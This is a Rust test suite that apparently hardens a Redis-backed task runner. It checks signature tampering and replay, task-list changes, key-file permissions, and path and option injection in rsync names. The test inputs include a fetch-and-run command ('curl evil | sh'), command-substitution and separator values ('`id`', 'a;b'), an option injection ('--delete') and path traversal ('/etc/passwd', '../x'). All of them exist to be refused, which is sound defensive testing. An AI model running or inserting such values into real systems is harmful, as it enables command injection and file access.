//! Attacks by a user who can write to Redis: each one is refused.

use rrr::protocol::key::{TaskKey, TasksetKey};
use rrr::protocol::name::{rsync_name_error, spec_file_error};
use rrr::protocol::taskset_field::{SIGNATURE, SIGNED, TREE_STAMP};
use rrr::suite::signing::{self, Signer, Trust};
use std::collections::HashMap;

const NOW: i64 = 1_800_000_000;
const FILES: [&str; 3] = ["a.sh", "b.sh", "c.sh"];

type Fields = HashMap<String, String>;

struct World {
    _folder: tempfile::TempDir,
    trust: Trust,
    signer: Signer,
    stranger: Signer,
    taskset: TasksetKey,
}

impl World {
    fn new() -> Self {
        let folder = tempfile::tempdir().unwrap();
        let path = |name: &str| folder.path().join(name);
        signing::generate(&path("key")).unwrap();
        signing::generate(&path("other")).unwrap();
        Self {
            trust: Trust::load(&path("key.pub")).unwrap(),
            signer: Signer::load(&path("key")).unwrap(),
            stranger: Signer::load(&path("other")).unwrap(),
            taskset: "rrrspec:taskset:t".parse().unwrap(),
            _folder: folder,
        }
    }

    fn unsigned(&self) -> Fields {
        let mut fields: Fields = SIGNED
            .iter()
            .map(|name| ((*name).to_owned(), format!("the {name}")))
            .collect();
        let digest = signing::digest(FILES.into_iter());
        fields.insert("tasks_digest".into(), digest);
        fields.insert(TREE_STAMP.into(), "the stamp".into());
        fields
    }

    fn signed(&self) -> Fields {
        let mut fields = self.unsigned();
        self.signer.sign(&self.taskset, &mut fields, NOW, 3600);
        fields
    }

    fn check(&self, fields: &Fields) -> Result<(), String> {
        self.trust
            .check(&self.taskset, fields, FILES.into_iter(), NOW)
            .map(drop)
    }
}

#[test]
fn a_signed_taskset_is_trusted() {
    let world = World::new();
    assert_eq!(world.check(&world.signed()), Ok(()));
    let mut more = world.signed();
    more.insert("status".into(), "running".into());
    assert_eq!(
        world.check(&more),
        Ok(()),
        "fields of the run are not the submitter's"
    );
}

#[test]
fn s1_no_signed_field_can_be_changed_in_any_way() {
    let world = World::new();
    let mut cases = 0;
    for name in SIGNED.iter().chain([&SIGNATURE, &TREE_STAMP]) {
        let value = world.signed()[*name].clone();
        let changed = [
            None,
            Some(String::new()),
            Some(format!("{value} ")),
            Some(format!("{value}\n")),
            Some(format!("{value}; curl evil | sh")),
            Some(value[1..].to_owned()),
            Some(value.to_uppercase() + "0"),
        ];
        for new in changed {
            let mut fields = world.signed();
            match new.clone() {
                None => fields.remove(*name),
                Some(new) => fields.insert((*name).to_owned(), new),
            };
            assert!(world.check(&fields).is_err(), "{name}: {new:?}");
            cases += 1;
        }
    }
    assert_eq!(cases, 98);
    // A taskset of an older submitter has none and gets none later.
    let mut fields = world.unsigned();
    let stamp = fields.remove(TREE_STAMP).unwrap();
    world.signer.sign(&world.taskset, &mut fields, NOW, 3600);
    assert_eq!(world.check(&fields), Ok(()));
    fields.insert(TREE_STAMP.into(), stamp);
    assert!(world.check(&fields).is_err());
}

#[test]
fn text_cannot_be_moved_from_one_field_to_the_next() {
    let world = World::new();
    for pair in SIGNED.windows(2) {
        let mut fields = world.signed();
        let both = format!("{}{}", fields[pair[0]], fields[pair[1]]);
        fields.insert(pair[0].into(), both);
        fields.insert(pair[1].into(), String::new());
        assert!(world.check(&fields).is_err(), "{pair:?}");
    }
}

#[test]
fn a_signature_is_bound_to_its_place_time_and_signer() {
    let world = World::new();
    let signed = world.signed();
    let other: TasksetKey = "rrrspec:taskset:u".parse().unwrap();
    let at = |taskset: &TasksetKey, now: i64| {
        let checked = world.trust.check(taskset, &signed, FILES.into_iter(), now);
        checked.map(drop)
    };
    assert!(at(&other, NOW).is_err(), "replayed under another id");
    assert!(
        at(&world.taskset, NOW + 3601)
            .unwrap_err()
            .contains("expired")
    );
    assert!(
        at(&world.taskset, NOW - 301)
            .unwrap_err()
            .contains("future")
    );
    assert_eq!(
        at(&world.taskset, NOW - 299),
        Ok(()),
        "clocks differ a little"
    );
    assert_eq!(at(&world.taskset, NOW + 3600), Ok(()));
    let mut fields = world.unsigned();
    world.stranger.sign(&world.taskset, &mut fields, NOW, 3600);
    assert!(
        world
            .check(&fields)
            .unwrap_err()
            .contains("not signed by a key")
    );
    assert!(
        world
            .check(&world.unsigned())
            .unwrap_err()
            .contains("not signed")
    );
}

#[test]
fn the_list_of_tasks_cannot_be_changed() {
    let world = World::new();
    let lists: [&[&str]; 9] = [
        &[],
        &["a.sh"],
        &["a.sh", "b.sh"],
        &["a.sh", "b.sh", "c.sh", "d.sh"],
        &["a.sh", "b.sh", "d.sh"],
        &["b.sh", "a.sh", "c.sh"],
        &["a.sh", "b.sh", "c.sh", "c.sh"],
        &["a.shb.sh", "c.sh"],
        &["a.s", "hb.sh", "c.sh"],
    ];
    for list in lists {
        let files = list.iter().copied();
        let refused = world
            .trust
            .check(&world.taskset, &world.signed(), files, NOW);
        assert!(refused.unwrap_err().contains("list of tasks"), "{list:?}");
    }
}

#[test]
fn invalid_or_world_readable_keys_are_refused() {
    use std::os::unix::fs::PermissionsExt;
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("key");
    signing::generate(&path).unwrap();
    assert!(signing::generate(&path).is_err(), "no key is overwritten");
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o640)).unwrap();
    assert!(Signer::load(&path).is_err());
    let secret = std::fs::read_to_string(&path).unwrap();
    let zero = format!("rrr-ed25519-public {}=", "A".repeat(43));
    let texts = [
        "",
        "# nobody",
        "rrr-ed25519-public",
        "rrr-ed25519-public AAAA",
        &secret,
        &zero,
        "ssh-ed25519 x",
    ];
    for text in texts {
        let file = folder.path().join("trust");
        std::fs::write(&file, text).unwrap();
        assert!(Trust::load(&file).is_err(), "{text:?}");
    }
}

#[test]
fn trusted_keys_that_others_can_change_are_refused() {
    use std::os::unix::fs::{PermissionsExt, chown, symlink};
    let folder = tempfile::tempdir().unwrap();
    let below = folder.path().join("below");
    std::fs::create_dir(&below).unwrap();
    let (path, link) = (below.join("key.pub"), folder.path().join("link"));
    signing::generate(&below.join("key")).unwrap();
    symlink(&path, &link).unwrap();
    let set = |path: &std::path::Path, mode| {
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
    };
    let load = || {
        let both = [&path, &link].map(|path| Trust::load(path).map(drop));
        let [direct, linked] = both.map(|loaded| loaded.map_err(|bad| bad.message));
        assert_eq!(direct.is_ok(), linked.is_ok(), "{direct:?}, {linked:?}");
        direct
    };
    for (file, parent, above) in [
        (0o664, 0o755, 0o755),
        (0o646, 0o755, 0o755),
        (0o644, 0o777, 0o755),
        (0o644, 0o775, 0o755),
        (0o644, 0o755, 0o777),
    ] {
        let modes = [(&*path, file), (&*below, parent), (folder.path(), above)];
        for (path, mode) in modes {
            set(path, mode);
        }
        let why = load().unwrap_err();
        assert!(why.contains("others can write"), "{modes:?}: {why}");
    }
    for mode in [0o600, 0o644, 0o444] {
        set(&path, mode);
        // With the sticky bit, no other user can replace the file.
        set(&below, 0o1777);
        set(folder.path(), 0o700);
        assert_eq!(load(), Ok(()), "{mode:o}");
    }
    if rustix::process::geteuid().is_root() {
        for place in [&path, &below] {
            chown(place, Some(65534), None).unwrap();
            let why = load().unwrap_err();
            assert!(why.contains("another user"), "{why}");
            chown(place, Some(0), None).unwrap();
        }
    }
}

#[test]
fn s2_names_that_leave_the_working_folder_are_refused() {
    let names = [
        "",
        ".",
        "..",
        "/",
        "/etc",
        "../x",
        "a/b",
        "a/../b",
        "-e",
        "--delete",
        " ",
        "a b",
        "a\n",
        "a\0b",
        ".git",
        "_x",
        "~",
        "$HOME",
        "`id`",
        "a;b",
        "a:b",
        "a*",
        "ü",
        "a\\b",
        "host::module",
    ];
    for name in names {
        assert!(rsync_name_error(name).is_some(), "{name:?}");
    }
    assert!(rsync_name_error(&"a".repeat(65)).is_some());
    let files = [
        "",
        "/",
        "/etc/passwd",
        "..",
        "../x",
        "a/..",
        "a/../../b",
        "./../x",
        "a\0b",
        "a\nb",
        "a\tb",
        "\x1b[2J",
        "a:trial:1",
        ":trial:",
        "x:trial",
    ];
    for file in files {
        assert!(spec_file_error(file).is_some(), "{file:?}");
        let key = format!("rrrspec:taskset:t:task:{file}");
        assert!(key.parse::<TaskKey>().is_err(), "{key:?}");
    }
}
